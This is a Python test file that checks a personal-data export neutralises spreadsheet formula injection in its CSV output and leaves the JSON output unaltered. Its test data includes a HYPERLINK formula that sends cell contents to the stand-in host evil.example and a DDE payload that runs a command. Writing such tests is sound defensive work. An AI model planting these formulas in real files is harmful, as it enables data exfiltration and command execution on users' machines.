"""The person's copy as CSV: every value as it is, and none of it run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from flows.export import as_csv, as_json, build_copy

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
DESK = {"choices": [], "requests": []}


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_finding_9_a_csv_copy_neutralises_a_cell_that_starts_a_formula(value: str) -> None:
    copy = build_copy("+923001234567", "Example", {"Contact": {"Website": value}}, DESK)

    [_header, row] = csv_rows(as_csv(copy))

    assert row == ["organisation", "Contact", "Website", "'" + value]


def test_finding_9_field_names_from_the_records_are_neutralised_too() -> None:
    copy = build_copy("+923001234567", "Example", {"=cmd": {"@name": "Ayesha"}}, DESK)

    [_header, row] = csv_rows(as_csv(copy))

    assert row == ["organisation", "'=cmd", "'@name", "Ayesha"]


def test_ordinary_values_and_urdu_reach_the_csv_unchanged() -> None:
    held = {"Contact": {"Name": "عائشہ خان", "Email": "a@example.org", "Note": "paid 5 = 5"}}
    copy = build_copy("+923001234567", "Example", held, DESK)

    rows = csv_rows(as_csv(copy))

    assert rows[1:] == [["organisation", "Contact", "Name", "عائشہ خان"],
                        ["organisation", "Contact", "Email", "a@example.org"],
                        ["organisation", "Contact", "Note", "paid 5 = 5"]]


def test_the_json_copy_keeps_every_value_exactly_as_held() -> None:
    copy = build_copy("+923001234567", "Example", {"Contact": {"Website": FORMULAS[0]}}, DESK)

    assert json.loads(as_json(copy))["organisation_data"]["Contact"]["Website"] == FORMULAS[0]
